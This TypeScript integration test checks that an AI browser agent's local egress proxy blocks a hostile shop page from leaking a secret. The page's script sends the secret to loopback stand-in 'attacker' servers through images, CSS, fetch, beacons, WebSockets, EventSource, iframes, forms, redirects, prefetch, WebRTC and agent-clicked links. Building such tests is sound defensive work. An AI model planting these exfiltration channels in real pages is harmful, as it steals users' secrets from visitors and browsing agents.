// Reproduction (issue #20 point 3): without hostd (no root, or CLAWDIE_HOSTD=off) the domain
// policy was advisory — only navigate() actions were checked, and a page's links, forms, popups,
// redirects, beacons, sockets, frames and WebRTC reached any host with the page's secret. Now the
// local browser goes through hostd's own egress proxy with each task's allowlist. Real Chromium,
// the real local jail-service the controlplane starts, real tasks with a scripted model and the
// replay model, "attackers" on other loopback ports (one per class) recording every connection.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { sleep } from '@clawdie/kit/timing';
import type { VisionModel } from '../../controlplane/src/agent/model/chat-types.js';
import { createReplayModel } from '../../controlplane/src/agent/model/replay-model.js';
import { smartResize } from '../../controlplane/src/agent/uitars/smart-resize.js';
import { getThrough } from '../hostd/support/proxy-probe.js';
import { requires } from '../support/capabilities.js';
import { createTestControlplane, type TestControlplane } from '../support/controlplane.js';
import { createPerTaskScriptModel } from '../support/per-task-script-model.js';
import { type StaticSite, startStaticSite } from '../support/static-site.js';
import { submit } from '../support/submit-task.js';
import { type Attackers, startAttackers } from './support/recording-attackers.js';

const SECRET = 'SECRET-4f1c9a';
/** What a page script tries on load (one attacker each). */
const onLoad = [
  'img',
  'css',
  'script',
  'fetch',
  'beacon',
  'websocket',
  'eventsource',
  'iframe',
  'form',
  'redirect-subresource',
  'redirect-frame',
  'prefetch',
  'preconnect',
] as const;
/** What needs a click (a user gesture): one task each, the click made by the model. */
const clicked = ['window-open', 'target-blank', 'redirect-top', 'link-click'] as const;

const model = smartResize(1280, 800) ?? { width: 1000, height: 1000 };
const CLICK_CENTRE = `Thought: click it\nAction: click(start_box='<|box_start|>(${Math.round(model.width / 2)},${Math.round(model.height / 2)})<|box_end|>')`;
const SCRIPT = [CLICK_CENTRE, "Action: finished(content='done')"];

/** The model answers after a pause, so what a click or a page script started has happened. */
function unhurried(inner: VisionModel): VisionModel {
  return {
    ...inner,
    async complete(requestBody, signal) {
      await sleep(800, signal);
      return inner.complete(requestBody, signal);
    },
  };
}

function bypassPage(a: Attackers, udpPort: number): string {
  const u = (name: string) => a.get(name).url;
  return `<!doctype html><title>Shop</title>
<link rel=preconnect href="${u('preconnect')}"><link rel=prefetch href="${u('prefetch')}/p?s=${SECRET}">
<style>.bg{background:url(${u('css')}/c?s=${SECRET})}</style>
<p class=bg>order ${SECRET}</p>
<img src="${u('img')}/i?s=${SECRET}"><img src="/redirect-subresource">
<iframe src="${u('iframe')}/f?s=${SECRET}"></iframe><iframe src="/redirect-frame"></iframe>
<iframe name=sink></iframe>
<form id=f method=post action="${u('form')}/post" target=sink><input name=s value=${SECRET}></form>
<script src="${u('script')}/s.js?s=${SECRET}"></script>
<script>
fetch('${u('fetch')}/x?s=${SECRET}', { mode: 'no-cors' }).catch(() => {});
navigator.sendBeacon('${u('beacon')}/b', '${SECRET}');
try { new WebSocket('${u('websocket').replace('http', 'ws')}/ws?s=${SECRET}').onerror = () => {}; } catch {}
try { new EventSource('${u('eventsource')}/e?s=${SECRET}'); } catch {}
document.getElementById('f').submit();
const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
pc.createDataChannel('x');
pc.createOffer().then((offer) => pc.setLocalDescription(offer));
window.keep = pc;
</script>`;
}

/** A page that is one big control: whatever the model clicks near the centre triggers it. */
function clickPage(control: string): string {
  return `<!doctype html><title>Shop</title><style>body{margin:0}
#c{position:fixed;inset:0;display:block;font-size:48px;background:#eef}</style>
<p>order ${SECRET}</p>${control}`;
}

describe(
  'local mode (no hostd): one egress policy for the local browser',
  requires('chromium'),
  () => {
    let attackers: Attackers;
    let shop: StaticSite;
    let platform: TestControlplane;
    const taskOf = new Map<string, string>();

    before(async () => {
      attackers = await startAttackers([...onLoad, ...clicked]);
      const to = (name: string) => ({
        status: 302,
        headers: { location: `${attackers.get(name).url}/r?s=${SECRET}` },
      });
      shop = await startStaticSite({
        '/bypass': bypassPage(attackers, attackers.udp.port),
        '/redirect-subresource': to('redirect-subresource'),
        '/redirect-frame': to('redirect-frame'),
        '/redirect-top': to('redirect-top'),
        '/window-open': clickPage(
          `<button id=c onclick="window.open('${attackers.get('window-open').url}/o?s=${SECRET}')">Open</button>`,
        ),
        '/target-blank': clickPage(
          `<a id=c target=_blank href="${attackers.get('target-blank').url}/b?s=${SECRET}">Open</a>`,
        ),
        '/redirect-top-page': clickPage(`<a id=c href="/redirect-top">Continue</a>`),
        '/link-click': clickPage(
          `<a id=c href="${attackers.get('link-click').url}/leak?s=${SECRET}">Continue</a>`,
        ),
      });
      platform = await createTestControlplane({ browsers: 'config' });
    });
    after(async () => {
      await platform?.close();
      await shop?.close();
      await attackers?.close();
    });

    it('stops every exfiltration class of a page on an allowed shop and audits each to its task', async () => {
      const domains = [new URL(shop.url).host];
      const runs: [string, string, VisionModel][] = [
        ['bypass', '/bypass', createPerTaskScriptModel(SCRIPT)],
        ['window-open', '/window-open', createPerTaskScriptModel(SCRIPT)],
        ['target-blank', '/target-blank', createPerTaskScriptModel(SCRIPT)],
        ['redirect-top', '/redirect-top-page', createPerTaskScriptModel(SCRIPT)],
        // The replay model (as the demo runs) clicking a link to the attacker.
        ['link-click', '/link-click', createReplayModel(SCRIPT)],
      ];
      for (const [name, path, inner] of runs) {
        const tasks = platform.createTasks(unhurried(inner), { policed: false });
        const result = await (
          await submit(tasks, {
            instruction: `use the shop (${name})`,
            start_url: `${shop.url}${path}`,
            domains,
            max_steps: 4,
          })
        ).done;
        await tasks.close();
        assert.equal(result.status, 'finished', `${name}: ${JSON.stringify(result)}`);
        taskOf.set(name, result.trace_id);
      }
      // The allowed shop works through the proxy: every page and the redirects' first hops served.
      for (const path of ['/bypass', '/window-open', '/target-blank', '/redirect-top-page']) {
        assert.ok(shop.requests.includes(path), `${path} served: ${shop.requests.join(' ')}`);
      }
      assert.ok(shop.requests.includes('/redirect-subresource'));
      assert.ok(shop.requests.includes('/redirect-top'));

      const refusals = await platform.audit.list({ type: 'egress-refused', limit: 1000 });
      const byPort = new Map<number, Set<string>>();
      for (const row of refusals) {
        const port = Number(row.data.port);
        byPort.set(port, (byPort.get(port) ?? new Set()).add(String(row.taskId)));
        assert.equal(row.data.clone, 'local');
        assert.equal(row.data.reason, 'not-allowed', JSON.stringify(row.data));
        assert.equal(row.data.host, '127.0.0.1');
      }
      const figures = [...onLoad, ...clicked].map((name) => {
        const attacker = attackers.get(name);
        const task = onLoad.includes(name as (typeof onLoad)[number]) ? 'bypass' : name;
        return {
          class: name,
          reached: attacker.connections + attacker.requests.length,
          refused: refusals.filter((row) => Number(row.data.port) === attacker.port).length,
          task: taskOf.get(task),
          auditedTo: [...(byPort.get(attacker.port) ?? [])],
        };
      });
      process.stderr.write(`egress figures: ${JSON.stringify(figures)}\n`);
      process.stderr.write(`webrtc udp datagrams: ${attackers.udp.datagrams}\n`);

      assert.deepEqual(attackers.reached(), [], 'nothing reached an attacker');
      for (const figure of figures) {
        // Each refusal of a class is audited to the task whose page tried it, and only to it.
        for (const taskId of figure.auditedTo) assert.equal(taskId, figure.task, figure.class);
        // A preconnect opens a connection to the proxy only: nothing to refuse, nothing leaks.
        if (figure.class === 'preconnect') continue;
        // A link whose landing names the attacker (target=_blank, a plain link) is refused by
        // the landing gate before the browser asks the proxy (issue 20): audited as a step.
        const gated = (
          await platform.audit.list({
            type: 'step-refused',
            limit: 100,
            taskId: String(figure.task),
          })
        ).some((row) => row.data.kind === 'navigation');
        assert.ok(figure.refused > 0 || gated, `${figure.class} refused and audited`);
      }
    });

    it('lets nothing through between tasks (an empty allowlist)', async () => {
      const proxy = platform.source.local?.egressProxyUrl;
      assert.ok(proxy, 'the local browser has an egress proxy');
      assert.equal(await getThrough(proxy, `${shop.url}/bypass`), 403);
      assert.equal(await getThrough(proxy, `${attackers.get('img').url}/`), 403);
      assert.deepEqual(attackers.reached(), []);
    });
  },
);
